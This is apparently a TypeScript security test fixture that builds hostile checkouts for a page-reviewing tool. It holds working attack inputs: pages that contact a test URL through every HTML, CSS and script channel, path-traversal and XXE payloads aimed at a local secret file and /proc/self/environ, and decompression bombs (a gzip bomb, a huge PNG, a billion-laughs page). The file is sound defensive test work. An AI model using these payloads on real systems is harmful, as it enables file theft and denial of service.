/** Checkouts whose pages reach for what is not theirs: addresses, files of the user, memory without an end. */
import { pathToFileURL } from 'node:url';
import { constants, crc32, deflateSync } from 'node:zlib';
import type { HostileRepository } from './checkout.ts';

/** Also with the browser of this machine, where there is one. */
const LOOKED_AT = (page: string): readonly (readonly string[])[] => [
  ['review', page, '--plain', '--browser', 'never'],
  ['check', page, '--browser', 'never', '--json'],
  ['check', page, '--browser', 'always', '--report', 'out/report'],
];
const WITH_BROWSER: HostileRepository['env'] = (_, argv) =>
  argv.includes('always') ? { OD_BROWSER: undefined } : {};

export const PAGES: readonly HostileRepository[] = [
  {
    name: 'a page that asks addresses by every element it has',
    build(checkout, { url }) {
      checkout.put('page.html', askingPage(url));
      checkout.put('page.svg', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/svg"/></svg>`);
      checkout.put('style.css', `@import "${url}/css-import"; p { background: url(${url}/css-picture) }`);
      checkout.put('script.js', askingScript(url));
      checkout.put('DESIGN.md', `# Brand\n\n![logo](${url}/design)\n\n- ink: #222222\n`);
      checkout.put('spec.md', `# Spec\n\n1. See <${url}/spec> and ![x](${url}/picture).\n`);
      checkout.put('task/brief.md', `# Brief\n\n- R1: the page must answer at ${url}/brief\n`);
      checkout.put('idea/positioning.md', `# For skippers\n\n[tide](${url}/idea) ![x](${url}/picture)\n`);
      checkout.commit();
    },
    env: WITH_BROWSER,
    argv: () => [
      ...LOOKED_AT('page.html'),
      ['drill', 'page.html', '--quiet'],
      ['accept', '--task', 'task'],
      ['content', 'idea'],
    ],
  },
  {
    name: 'a page that reads files of the user by every address it has',
    build(checkout, { secretFile }) {
      checkout.put('page.html', readingPage(secretFile));
      checkout.put('deep/er/page.xhtml', entityPage(secretFile));
      checkout.put('style.css', readingSheet(secretFile));
      checkout.commit();
    },
    env: WITH_BROWSER,
    argv: () => [...LOOKED_AT('page.html'), ...LOOKED_AT('deep/er/page.xhtml')],
  },
  {
    name: 'pictures, documents and logs that are small and unpack without an end',
    build(checkout) {
      checkout.put('bomb.png', hugePicture());
      checkout.put('bomb.svg', `<svg xmlns="http://www.w3.org/2000/svg">${nestedUses()}</svg>`);
      checkout.put(
        'page.html',
        `<!doctype html><html lang="en"><title>Tides</title><link rel="icon" href="bomb.png"><h1>Tides</h1>${'<img src="bomb.png" alt="x"><img src="bomb.svg" alt="x">'.repeat(4)}<p style="background:url(bomb.png)">Words that are here.</p></html>`,
      );
      checkout.put('page.xhtml', laughingPage());
      for (const name of ['transcript.ndjson.gz', 'logs/transcript.ndjson.gz', 'page.html.gz'])
        checkout.put(name, gigabytes(31));
      checkout.commit();
    },
    env: WITH_BROWSER,
    argv: () => [
      ...LOOKED_AT('page.html'),
      ...LOOKED_AT('page.xhtml'),
      ['replay', 'transcript.ndjson.gz', '--speed', 'instant'],
      ['rejudge', 'logs'],
      ['certify', 'transcript.ndjson.gz'],
      ['review', 'page.html.gz', '--plain'],
    ],
  },
];

function askingPage(url: string): string {
  const at = (name: string): string => `${url}/${name}`;
  return `<!doctype html><html lang="en" manifest="${at('manifest')}"><head><title>Tides</title>
<meta http-equiv="refresh" content="0;url=${at('refresh')}"><meta property="og:image" content="${at('og')}">
<link rel="stylesheet" href="style.css"><link rel="stylesheet" href="${at('sheet')}"><link rel="icon" href="${at('icon')}">
${[
  'preload',
  'prefetch',
  'preconnect',
  'dns-prefetch',
  'prerender',
  'modulepreload',
  'manifest',
  'import',
  'canonical',
  'alternate',
  'search',
  'pingback',
]
  .map((rel) => `<link rel="${rel}" as="image" href="${at(rel)}">`)
  .join('')}
<style>@import url(${at('import')}); @font-face { font-family: x; src: url(${at('font')}) } body { font-family: x; cursor: url(${at('cursor')}), auto; background: image-set("${at('set')}" 1x) } h1::before { content: url(${at('content')}) }</style>
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${at('speculation')}"]}]}</script>
<script type="importmap">{"imports":{"x":"${at('map')}"}}</script><script type="module">import "x";</script>
<script src="script.js"></script><script src="${at('script')}"></script></head>
<body background="${at('background')}"><h1>Tides</h1><p>High water is at nine.</p>
<img src="${at('picture')}" srcset="${at('srcset')} 2x" alt="A pier" lowsrc="${at('low')}"><picture><source srcset="${at('source')}"><img src="${at('inner')}" alt="A pier"></picture>
<iframe src="${at('frame')}" title="x"></iframe><iframe title="x" srcdoc="<img src='${at('srcdoc')}'>"></iframe><object data="${at('object')}"></object><embed src="${at('embed')}"><portal src="${at('portal')}"></portal>
<video src="${at('video')}" poster="${at('poster')}" autoplay><track default src="${at('track')}"></video><audio src="${at('audio')}" autoplay></audio>
<svg><image href="${at('svg-image')}"/><use href="${at('svg-use')}#x"/><filter><feImage href="${at('filter')}"/></filter><script href="${at('svg-script')}"></script></svg>
<a id="go" href="${at('link')}" ping="${at('ping')}">Timetable</a><form id="send" action="${at('form')}" method="post"><input type="image" src="${at('input')}" alt="Send"><button formaction="${at('button')}">Send</button></form>
<table background="${at('table')}"><tr><td background="${at('cell')}">x</td></tr></table></body></html>`;
}

/** Whatever a script can ask with. Each way may be missing or forbidden; the others are tried all the same. */
function askingScript(url: string): string {
  const ways = [
    `fetch('${url}/fetch', { mode: 'no-cors' })`,
    `navigator.sendBeacon('${url}/beacon', 'x')`,
    `new WebSocket('${url.replace('http', 'ws')}/socket')`,
    `new EventSource('${url}/events')`,
    `new Image().src = '${url}/image'`,
    `new Worker(URL.createObjectURL(new Blob(["importScripts('${url}/worker')"])))`,
    `navigator.serviceWorker.register('${url}/service')`,
    `import('${url}/module')`,
    `window.open('${url}/window')`,
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${new URL(url).host}' }] }).createDataChannel('x')`,
    `(() => { const r = new XMLHttpRequest(); r.open('GET', '${url}/xhr'); r.send(); })()`,
    `addEventListener('load', () => { document.getElementById('go').click(); document.getElementById('send').submit(); })`,
    `addEventListener('load', () => { location.href = '${url}/location'; })`,
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${url}/late' }))`,
  ];
  return ways.map((way) => `try { void (${way}); } catch {}`).join('\n');
}

function placesOf(file: string): string[] {
  const address = pathToFileURL(file).href;
  const up = '../'.repeat(12);
  return [
    ...[
      address,
      `view-source:${address}`,
      `filesystem:${address}`,
      file,
      `/${file}`,
      `file://localhost${file}`,
    ],
    ...[`${up}${file.slice(1)}`, `${up.replaceAll('../', '..%2f')}${file.slice(1)}`, '../secret/secret.md'],
    ...[
      '%2e%2e/secret/secret.md',
      '..%5csecret%5csecret.md',
      '..\\secret\\secret.md',
      '/%2e%2e/secret/secret.md',
    ],
    ...[
      '/..%2fsecret/secret.md',
      '..;/secret/secret.md',
      './/..//secret/secret.md',
      '%252e%252e/secret/secret.md',
    ],
    ...['/proc/self/environ', 'file:///proc/self/environ', `/@fs${file}`, `/.%00/../secret/secret.md`],
  ];
}

/** What is read would stand in headings, which findings quote. */
function readingPage(file: string): string {
  const places = placesOf(file);
  const elements = places
    .map(
      (place) =>
        `<iframe src="${place}" title="x"></iframe><object data="${place}"></object><embed src="${place}"><img src="${place}" alt="x"><link rel="stylesheet" href="${place}"><script src="${place}"></script>`,
    )
    .join('');
  return `<!doctype html><html lang="en"><head><title>Tides</title><base href="${pathToFileURL(file).href}"><link rel="stylesheet" href="style.css">
<script>for (const place of ${JSON.stringify(places)}) for (const base of [location.href, 'file:///', document.baseURI]) {
try { fetch(new URL(place, base)).then((r) => r.text()).then((t) => show(t), () => {}); } catch {}
try { const r = new XMLHttpRequest(); r.open('GET', new URL(place, base), false); r.send(); show(r.responseText); } catch {} }
function show(t) { if (!t) return; document.title = t; const h = document.createElement('h4'); h.textContent = t; document.body.append(h); }
addEventListener('load', () => { for (const f of document.querySelectorAll('iframe,object')) try { show(f.contentDocument.body.textContent); } catch {} });
</script></head><body><h1>Tides</h1><p>High water is at nine.</p>${elements}</body></html>`;
}

function readingSheet(file: string): string {
  return placesOf(file)
    .map((place) => `@import "${place}"; @import url(${place});`)
    .join('\n')
    .concat(`\np { background: url(${file}) }\n/*# sourceMappingURL=../secret/secret.md */`);
}

function entityPage(file: string): string {
  const address = pathToFileURL(file).href;
  return `<?xml version="1.0"?><?xml-stylesheet href="${address}"?><!DOCTYPE html [<!ENTITY % all SYSTEM "${address}">%all;<!ENTITY read SYSTEM "${address}"><!ENTITY up SYSTEM "../../../secret/secret.md">]>
<html xmlns="http://www.w3.org/1999/xhtml" lang="en" xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>&read;&up;</title></head><body><h1>&read;</h1><h4>&up;</h4><xi:include href="${address}" parse="text"/><p>Words that are here.</p></body></html>`;
}

function laughingPage(): string {
  const entities = Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY e${at} "${at === 0 ? 'ha' : `&e${at - 1};`.repeat(10)}">`,
  );
  return `<?xml version="1.0"?><!DOCTYPE html [${entities.join('')}]><html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head><title>Tides</title></head><body><h1>&e11;</h1><p>Words that are here.</p></body></html>`;
}

function nestedUses(): string {
  const levels = Array.from(
    { length: 10 },
    (_, at) => `<g id="g${at + 1}">${`<use href="#g${at}"/>`.repeat(10)}</g>`,
  );
  return `<defs><g id="g0"><rect width="1" height="1"/></g>${levels.join('')}</defs><use href="#g10"/>`;
}

const MEBIBYTE = 1_048_576;

/** A valid beginning of gigabytes of zeros: one packed block, again and again. */
function gigabytes(windowBits: number): Uint8Array {
  const block = deflateSync(new Uint8Array(MEBIBYTE), { finishFlush: constants.Z_SYNC_FLUSH });
  const [head, body] = [windowBits > 15 ? GZIP_HEAD : block.subarray(0, 2), block.subarray(2)];
  return Buffer.concat([head, ...Array.from({ length: 3_000 }, () => body)]);
}

const GZIP_HEAD = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);

/** 60,000 by 60,000 dots. */
function hugePicture(): Uint8Array {
  const size = Buffer.alloc(13);
  size.writeUInt32BE(60_000, 0);
  size.writeUInt32BE(60_000, 4);
  size[8] = 1;
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    ...[
      chunk('IHDR', size),
      chunk('IDAT', gigabytes(15).subarray(0, 440_000)),
      chunk('IEND', Buffer.alloc(0)),
    ],
  ]);
}

function chunk(kind: string, data: Uint8Array): Buffer {
  const named = Buffer.concat([Buffer.from(kind, 'latin1'), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(named));
  return Buffer.concat([length, named, sum]);
}
